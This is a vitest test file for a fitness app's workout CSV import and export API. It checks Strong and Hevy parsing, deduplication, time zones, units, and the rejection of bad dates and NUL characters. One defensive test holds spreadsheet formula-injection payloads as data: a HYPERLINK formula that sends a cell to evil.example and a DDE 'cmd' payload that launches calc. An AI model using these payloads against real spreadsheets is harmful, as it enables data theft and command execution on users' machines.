import fs from 'node:fs';
import path from 'node:path';
import { apiErrors, trainingErrors } from '@spotter/contract';
import { importResultSchema, type Workout, workoutPageSchema } from '@spotter/contract/schemas';
import { strongCsv } from '@spotter/contract/test-fixtures/strong-import';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { importCsv } from './helpers/import-csv';
import { newPostId } from './helpers/people';
import { useTestApp } from './helpers/test-app';
import { unzip } from './helpers/unzip';

const t = useTestApp();

const fixture = (name: string) => fs.readFileSync(path.join(import.meta.dirname, 'fixtures/training', name), 'utf8');
const strong = strongCsv;
const hevy = fixture('hevy.csv');

async function imported(token: string, csv: string, query = '') {
  const res = await importCsv(t().app, token, csv, query);
  expect(res.statusCode, res.body).toBe(200);
  return importResultSchema.parse(res.json());
}
async function refused(token: string | undefined, csv: string, status = 400) {
  const res = await importCsv(t().app, token, csv);
  expect(res.statusCode, res.body).toBe(status);
  return res.json().errors as string[];
}
async function workoutsOf(username: string): Promise<Workout[]> {
  const res = await t().call('GET', `/api/users/${username}/workouts?limit=50`);
  expect(res.statusCode, res.body).toBe(200);
  return workoutPageSchema.parse(res.json()).workouts;
}
/** A workout as what it holds, without the ids and times the server gives it. */
const content = (w: Workout) => ({
  title: w.title,
  startedAt: w.startedAt,
  durationSec: w.durationSec,
  notes: w.notes,
  exercises: w.exercises.map((e) => ({ name: e.name, measure: e.measure, notes: e.notes, sets: e.sets })),
  records: w.records.map((r) => `${r.type} ${r.value}`),
});
/** The person's own exercises whose name holds `q`. */
async function customExercises(token: string, q: string): Promise<string[]> {
  const res = await t().call('GET', `/api/exercises?q=${encodeURIComponent(q)}`, { token });
  expect(res.statusCode, res.body).toBe(200);
  return res.json().exercises.flatMap((e: { name: string; custom: boolean }) => (e.custom ? [e.name] : []));
}

const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
const strongHeader = strong.split('\n')[0] ?? '';
interface StrongRow {
  date?: string;
  title?: string;
  exercise?: string;
  weight?: string;
  notes?: string;
  workoutNotes?: string;
}
const strongRow = (r: StrongRow = {}) =>
  [
    r.date ?? '2026-10-05 07:30:00',
    quoted(r.title ?? 'Push'),
    '45m',
    quoted(r.exercise ?? 'Bench Press (Barbell)'),
    '1',
    r.weight ?? '80',
    '5',
    '0',
    '0',
    quoted(r.notes ?? ''),
    quoted(r.workoutNotes ?? ''),
    '',
  ].join(',');
const hevyHeader = hevy.split('\n')[0] ?? '';
interface HevyRow {
  title?: string;
  start?: string;
  end?: string;
  description?: string;
  exercise?: string;
  exerciseNotes?: string;
}
const hevyRow = (r: HevyRow = {}) =>
  [
    quoted(r.title ?? 'Legs'),
    quoted(r.start ?? '12 Oct 2026, 07:00'),
    quoted(r.end ?? '12 Oct 2026, 08:00'),
    quoted(r.description ?? ''),
    quoted(r.exercise ?? 'Squat (Barbell)'),
    '',
    quoted(r.exerciseNotes ?? ''),
    '0',
    '"normal"',
    '100',
    '5',
    '',
    '',
    '',
  ].join(',');
const spotterHeader =
  'workout_title,started_at,duration_sec,workout_notes,exercise_id,exercise_name,exercise_category,' +
  'exercise_measure,exercise_notes,set_type,reps,weight_kg,distance_m,set_duration_sec,rpe';
const spotterRow = (startedAt: string, title = 'Push') =>
  `${quoted(title)},${startedAt},,,barbell-bench-press,Barbell Bench Press,strength,weight_reps,,normal,5,80,,,`;
const file = (header: string, ...rows: string[]) => [header, ...rows].join('\n');

const setLine = (s: Workout['exercises'][number]['sets'][number]) =>
  `${s.type} ${s.reps ?? '-'}x${s.weightKg ?? '-'} ${s.distanceM ?? '-'}m ${s.durationSec ?? '-'}s rpe ${s.rpe ?? '-'}`;

describe('POST /api/workouts/import', () => {
  it("reads Strong's export: workouts by date and name, set letters, rest rows left out, names matched or made", async () => {
    const { token } = await t().signup('strong_ana');
    expect(await imported(token, strong)).toEqual({ imported: 3, skipped: 0, exercisesCreated: 1 });
    const [third, run, first] = await workoutsOf('strong_ana');
    expect(first).toMatchObject({
      title: 'Push Day',
      startedAt: '2026-10-05T07:30:00.000+00:00',
      durationSec: 3900,
      notes: 'Felt good',
    });
    expect(first?.exercises.map((e) => [e.exerciseId, e.notes, e.sets.map(setLine)])).toEqual([
      ['barbell-bench-press', '', ['warmup 10x40 -m -s rpe -', 'normal 5x80 -m -s rpe 8', 'normal 3x85 -m -s rpe 9']],
      ['overhead-press', 'strict', ['normal 8x40 -m -s rpe -', 'normal 8x40 -m -s rpe -']],
      [expect.any(String), '', ['normal 15x10 -m -s rpe -']],
    ]);
    expect(first?.exercises[2]?.name).toBe('Cable Lateral Swing');
    expect(run?.exercises.map((e) => [e.exerciseId, e.sets.map(setLine)])).toEqual([
      ['running', ['normal -x- 5200m 1800s rpe -']],
    ]);
    // Pull Up is the catalogue's Pull-Up (reps): Strong's zero weight is kept as added weight 0.
    expect(third?.exercises.map((e) => e.exerciseId)).toEqual(['barbell-bench-press', 'pull-up']);
    expect(third?.records.map((r) => `${r.exerciseId} ${r.type} ${r.value} (${r.previous})`)).toContain(
      'barbell-bench-press heaviestWeight 87.5 (85)',
    );

    const custom = await t().call('GET', '/api/exercises?q=lateral swing', { token });
    expect(custom.json().exercises).toEqual([
      expect.objectContaining({ name: 'Cable Lateral Swing', measure: 'weight_reps', custom: true }),
    ]);
  });

  it('imports nothing new from the same file twice, and posts nothing to any feed', async () => {
    const { token, userId } = await t().signup('strong_twice');
    const follower = await t().signup('strong_follower');
    const follow = await t().call('POST', `/api/users/follow/${userId}`, { token: follower.token });
    expect(follow.statusCode, follow.body).toBe(200);
    await imported(token, strong);
    expect(await imported(token, strong)).toEqual({ imported: 0, skipped: 3, exercisesCreated: 0 });
    expect(await workoutsOf('strong_twice')).toHaveLength(3);
    const posts = await t().call('GET', '/api/posts/user/strong_twice');
    expect(posts.json().posts).toEqual([]);
    await t().app.fanout.idle();
    const feed = await t().call('GET', '/api/feed?limit=50', { token: follower.token });
    expect(feed.statusCode, feed.body).toBe(200);
    expect(feed.json().posts).toEqual([]);

    // A post the importer writes does reach the follower: only the import stayed out of the feed.
    const post = await newPostId(t(), token, 'Back at it');
    await t().app.fanout.idle();
    const after = await t().call('GET', '/api/feed?limit=50', { token: follower.token });
    expect(after.json().posts.map((p: { _id: string; content: string }) => [p._id, p.content])).toEqual([
      [post, 'Back at it'],
    ]);
  });

  it('imports nothing new from the same Hevy file twice', async () => {
    const { token } = await t().signup('hevy_twice');
    expect(await imported(token, hevy)).toEqual({ imported: 2, skipped: 0, exercisesCreated: 0 });
    const first = (await workoutsOf('hevy_twice')).map(content);
    expect(await imported(token, hevy)).toEqual({ imported: 0, skipped: 2, exercisesCreated: 0 });
    expect((await workoutsOf('hevy_twice')).map(content)).toEqual(first);
  });

  it("reads Strong's local times in the importer's time zone, and its weights in ?units=lb", async () => {
    const { token } = await t().signup('strong_paris');
    const settings = await t().call('POST', '/api/users/me/training-settings', {
      token,
      body: { settings: { timeZone: 'Europe/Paris' } },
    });
    expect(settings.statusCode, settings.body).toBe(200);
    await imported(token, strong.split('\n').slice(0, 3).join('\n'), '?units=lb');
    const [workout] = await workoutsOf('strong_paris');
    expect(workout?.startedAt).toBe('2026-10-05T05:30:00.000+00:00');
    expect(workout?.exercises[0]?.sets.map((s) => s.weightKg)).toEqual([18.144, 36.287]);
  });

  it("reads Strong's semicolon layout with decimal commas", async () => {
    const { token } = await t().signup('strong_semicolon');
    const csv = [
      '"Date";"Workout Name";"Duration";"Exercise Name";"Set Order";"Weight";"Reps";"Distance";"Seconds";"Notes";"Workout Notes";"RPE"',
      '"2026-10-05 07:30:00";"Push";"45m";"Bench Press (Barbell)";"1";"82,5";"5";"0";"0";"";"";"7,5"',
    ].join('\n');
    expect(await imported(token, csv)).toEqual({ imported: 1, skipped: 0, exercisesCreated: 0 });
    const [workout] = await workoutsOf('strong_semicolon');
    expect(workout?.exercises[0]?.sets.map(setLine)).toEqual(['normal 5x82.5 -m -s rpe 7.5']);
  });

  it("reads Hevy's export: set types, end time as duration, kg or lbs columns, Hevy's names matched", async () => {
    const { token } = await t().signup('hevy_ben');
    // "Squat (Barbell)" is Hevy's name for the catalogue's Barbell Back Squat (import-names.ts).
    expect(await imported(token, hevy)).toEqual({ imported: 2, skipped: 0, exercisesCreated: 0 });
    const [ride, legs] = await workoutsOf('hevy_ben');
    expect(legs).toMatchObject({ title: 'Leg Day', startedAt: '2026-10-12T07:00:00.000+00:00', durationSec: 4200 });
    expect(legs?.notes).toBe('Heavy singles');
    expect(legs?.exercises.map((e) => [e.name, e.notes, e.sets.map(setLine)])).toEqual([
      [
        'Barbell Back Squat',
        '',
        ['warmup 5x60 -m -s rpe -', 'normal 3x120 -m -s rpe 8', 'normal 1x130 -m -s rpe 9.5', 'drop 6x100 -m -s rpe -'],
      ],
      ['Plank', 'core', ['normal -x- -m 60s rpe -']],
    ]);
    expect(ride?.exercises.map((e) => [e.exerciseId, e.sets.map(setLine)])).toEqual([
      ['stationary-bike', ['normal -x- 20500m 3600s rpe -']],
    ]);

    const pounds = hevy.replace('"weight_kg"', '"weight_lbs"').replace('"distance_km"', '"distance_miles"');
    const other = await t().signup('hevy_pounds');
    await imported(other.token, pounds);
    const [poundRide, poundLegs] = await workoutsOf('hevy_pounds');
    expect(poundLegs?.exercises[0]?.sets.map((s) => s.weightKg)).toEqual([27.216, 54.431, 58.967, 45.359]);
    expect(poundRide?.exercises[0]?.sets[0]?.distanceM).toBeCloseTo(32_991.552, 3);
  });

  it('refuses files it cannot read with a 400 naming why, and the row and column', async () => {
    const { token } = await t().signup('bad_files');
    const header = strong.split('\n')[0];
    const row = (date: string, weight = '80') =>
      `${header}\n${date},"Push",45m,"Bench Press (Barbell)",1,${weight},5,0,0,"","",`;
    expect(await refused(token, '')).toEqual([trainingErrors.importEmpty]);
    expect(await refused(token, 'name,age\nana,30\n')).toEqual([trainingErrors.importUnknownLayout]);
    expect(await refused(token, `${header}\n`)).toEqual([trainingErrors.importNothing]);
    expect(await refused(token, row('yesterday'))).toEqual([`row 2, Date: ${trainingErrors.importBadRow}`]);
    expect(await refused(token, row('2026-13-05 07:30:00'))).toEqual([`row 2, Date: ${trainingErrors.importBadDate}`]);
    expect(await refused(token, row('2026-10-05 07:30:00', 'heavy'))).toEqual([
      `row 2, Weight: ${trainingErrors.importBadRow}`,
    ]);
    expect(await refused(token, row('2026-10-05 07:30:00', '5000'))).toEqual([
      'row 2: exercises.0.sets.0.weightKg: must be between 0 and 1000 kg',
    ]);
    const [unclosed] = await refused(token, `${header}\n"2026-10-05 07:30:00,Push`);
    expect(unclosed).toMatch(new RegExp(`^${trainingErrors.importNotCsv}: `));
    expect(await refused(token, Buffer.from([0x89, 0x50, 0x4e, 0x47]).toString())).toEqual([
      trainingErrors.importUnknownLayout,
    ]);
    const json = await t().call('POST', '/api/workouts/import', { token, body: { csv: strong } });
    expect(json.statusCode).toBe(400);
    expect(json.json().errors).toEqual([apiErrors.noFile]);
    const empty = await t().app.inject({
      method: 'POST',
      url: '/api/workouts/import',
      headers: { authorization: token, 'content-type': 'multipart/form-data; boundary=x' },
      payload: '--x--\r\n',
    });
    expect(empty.statusCode, empty.body).toBe(400);
    expect(empty.json().errors).toEqual([apiErrors.noFile]);
    expect(await workoutsOf('bad_files')).toEqual([]);
  });

  it('refuses a NUL character in a title, an exercise name or notes with a 400 naming the row and column, and stores nothing (issue 45, finding 5)', async () => {
    const { token } = await t().signup('nul_files');
    const nul = '\u0000';
    const cases: [string, string][] = [
      [file(strongHeader, strongRow(), strongRow({ title: `Push${nul}Day` })), 'row 3, Workout Name'],
      [file(strongHeader, strongRow({ exercise: `Nul${nul}Curl` })), 'row 2, Exercise Name'],
      [file(strongHeader, strongRow({ notes: `slow${nul}` })), 'row 2, Notes'],
      [file(strongHeader, strongRow({ workoutNotes: `${nul}` })), 'row 2, Workout Notes'],
      [file(hevyHeader, hevyRow(), hevyRow({ title: `Legs${nul}` })), 'row 3, title'],
      [file(hevyHeader, hevyRow({ exercise: `Nul${nul}Squat` })), 'row 2, exercise_title'],
      [file(hevyHeader, hevyRow({ exerciseNotes: `deep${nul}` })), 'row 2, exercise_notes'],
      [file(hevyHeader, hevyRow({ description: `heavy${nul}` })), 'row 2, description'],
      [file(spotterHeader, spotterRow('2026-10-05T07:30:00.000Z', `Push${nul}`)), 'row 2, workout_title'],
    ];
    for (const [csv, where] of cases) {
      expect(await refused(token, csv), where).toEqual([`${where}: ${trainingErrors.importNulCharacter}`]);
    }
    expect(await workoutsOf('nul_files')).toEqual([]);
    expect(await customExercises(token, 'nul')).toEqual([]);
  });

  it('refuses impossible dates with a 400 naming the row and column, and stores nothing (issue 45, finding 14)', async () => {
    const { token } = await t().signup('bad_dates');
    const cases: [string, string][] = [
      // The year 0001 was read as 1901, 31 February 2026 as 3 March.
      [file(strongHeader, strongRow({ date: '0001-10-05 07:30:00' })), 'row 2, Date'],
      [file(strongHeader, strongRow(), strongRow({ date: '2026-02-29 07:30:00' })), 'row 3, Date'],
      [file(strongHeader, strongRow({ date: '2026-00-10 07:30:00' })), 'row 2, Date'],
      [file(strongHeader, strongRow({ date: '2026-04-31 07:30:00' })), 'row 2, Date'],
      [file(strongHeader, strongRow({ date: '2201-01-01 07:30:00' })), 'row 2, Date'],
      [file(hevyHeader, hevyRow({ start: '31 Feb 2026, 07:00', end: '31 Feb 2026, 08:00' })), 'row 2, start_time'],
      [file(hevyHeader, hevyRow({ end: '31 Sep 2026, 08:00' })), 'row 2, end_time'],
      [file(hevyHeader, hevyRow({ start: '1 Jan 0001, 07:00', end: '' })), 'row 2, start_time'],
      [file(spotterHeader, spotterRow('2026-02-31T07:30:00.000Z')), 'row 2, started_at'],
      [file(spotterHeader, spotterRow('0001-01-01T07:30:00.000Z')), 'row 2, started_at'],
    ];
    for (const [csv, where] of cases) {
      expect(await refused(token, csv), where).toEqual([`${where}: ${trainingErrors.importBadDate}`]);
    }
    expect(await workoutsOf('bad_dates')).toEqual([]);
    // A leap day that exists is read as it is.
    expect(await imported(token, file(strongHeader, strongRow({ date: '2028-02-29 07:30:00' })))).toEqual({
      imported: 1,
      skipped: 0,
      exercisesCreated: 0,
    });
    expect((await workoutsOf('bad_dates')).map((w) => w.startedAt)).toEqual(['2028-02-29T07:30:00.000+00:00']);
  });

  it('makes no custom exercise when it stores nothing (issue 45, finding 14)', async () => {
    const { token } = await t().signup('makes_nothing');
    // Mystery Move's only set holds zeros: nothing its guessed measure records, so nothing to store.
    const zeros = file(strongHeader, '2026-10-05 07:30:00,"Odd",45m,"Mystery Move",1,0,0,0,0,"","",');
    expect(await imported(token, zeros)).toEqual({ imported: 0, skipped: 1, exercisesCreated: 0 });
    // Refused on its third row: the new name on its second made nothing either.
    const late = file(
      strongHeader,
      strongRow({ exercise: 'Zercher Hold' }),
      strongRow({ date: '2026-10-06 07:30:00', weight: '5000' }),
    );
    expect(await refused(token, late)).toEqual(['row 3: exercises.0.sets.0.weightKg: must be between 0 and 1000 kg']);
    expect(await customExercises(token, 'mystery')).toEqual([]);
    expect(await customExercises(token, 'zercher')).toEqual([]);
    expect(await workoutsOf('makes_nothing')).toEqual([]);
    // The same name in a file that stores its set is made, once.
    expect(await imported(token, file(strongHeader, strongRow({ exercise: 'Zercher Hold' })))).toEqual({
      imported: 1,
      skipped: 0,
      exercisesCreated: 1,
    });
    expect(await customExercises(token, 'zercher')).toEqual(['Zercher Hold']);
  });

  it('needs a token', async () => {
    expect(await refused(undefined, strong, 401)).toEqual([apiErrors.invalidToken]);
  });
});

describe('GET /api/users/me/workouts.csv', () => {
  it('exports every workout as CSV that the import reads back into another account as it was', async () => {
    const ana = await t().signup('export_ana');
    await imported(ana.token, strong);
    await imported(ana.token, hevy);
    const res = await t().call('GET', '/api/users/me/workouts.csv', { token: ana.token });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="spotter-workouts.csv"');
    const lines = res.body.trim().split('\n');
    expect(lines[0]).toBe(
      'workout_title,started_at,duration_sec,workout_notes,exercise_id,exercise_name,exercise_category,' +
        'exercise_measure,exercise_notes,set_type,reps,weight_kg,distance_m,set_duration_sec,rpe,' +
        'set_done,rest_sec,superset_group',
    );
    expect(lines).toHaveLength(1 + 11 + 6 - 1);

    // Into the same account: everything is there already.
    expect(await imported(ana.token, res.body)).toEqual({ imported: 0, skipped: 5, exercisesCreated: 0 });
    // Into another: the same workouts, records and all; the custom exercise (Strong's Cable Lateral
    // Swing; Hevy's squat is the catalogue's) made again.
    const ben = await t().signup('export_ben');
    expect(await imported(ben.token, res.body)).toEqual({ imported: 5, skipped: 0, exercisesCreated: 1 });
    const before = (await workoutsOf('export_ana')).map(content);
    const after = (await workoutsOf('export_ben')).map(content);
    expect(after).toEqual(before);
  });

  it('writes a quote before every cell a spreadsheet would run, here and in the account ZIP, and reads it back the same (issue 45, finding 7)', async () => {
    const ana = await t().signup('formula_ana');
    const made = await t().call('POST', '/api/exercises', {
      token: ana.token,
      body: {
        exercise: { name: '@SUM(1) Curl', category: 'strength', measure: 'weight_reps', primaryMuscles: ['biceps'] },
      },
    });
    expect(made.statusCode, made.body).toBe(201);
    const curlId = made.json().exercise._id as string;
    const titles = ['=HYPERLINK("https://evil.example/?x="&A1,"Open")', "+cmd|' /C calc'!A0", '-2+3', "'=1+2"];
    for (const [i, title] of titles.entries()) {
      const res = await t().call('POST', '/api/workouts', {
        token: ana.token,
        body: {
          workout: {
            title,
            startedAt: new Date(Date.UTC(2026, 9, 1 + i, 7)).toISOString(),
            notes: '@SUM(1)',
            exercises: [{ exerciseId: curlId, notes: '=1+2', sets: [{ reps: 8, weightKg: 20 }] }],
          },
        },
      });
      expect(res.statusCode, res.body).toBe(201);
    }
    const res = await t().call('GET', '/api/users/me/workouts.csv', { token: ana.token });
    expect(res.statusCode).toBe(200);
    const rows = parse(res.body) as string[][];
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(rows.slice(1).map((row) => [row[0], row[3], row[5], row[8]])).toEqual(
      [...titles].reverse().map((title) => [`'${title}`, "'@SUM(1)", "'@SUM(1) Curl", "'=1+2"]),
    );

    const archive = await t().call('GET', '/api/users/me/export', { token: ana.token });
    expect(archive.statusCode).toBe(200);
    expect((await unzip(archive.rawPayload)).get('workouts.csv')?.toString('utf8')).toBe(res.body);

    // Read back: the same workouts, in the same account (all there already) and in another.
    expect(await imported(ana.token, res.body)).toEqual({ imported: 0, skipped: 4, exercisesCreated: 0 });
    const ben = await t().signup('formula_ben');
    expect(await imported(ben.token, res.body)).toEqual({ imported: 4, skipped: 0, exercisesCreated: 1 });
    expect((await workoutsOf('formula_ben')).map(content)).toEqual((await workoutsOf('formula_ana')).map(content));
  });

  it('answers only the header for someone without workouts, and needs a token', async () => {
    const { token } = await t().signup('export_none');
    const res = await t().call('GET', '/api/users/me/workouts.csv', { token });
    expect(res.statusCode).toBe(200);
    expect(res.body.trim().split('\n')).toHaveLength(1);
    expect((await t().call('GET', '/api/users/me/workouts.csv')).statusCode).toBe(401);
  });
});
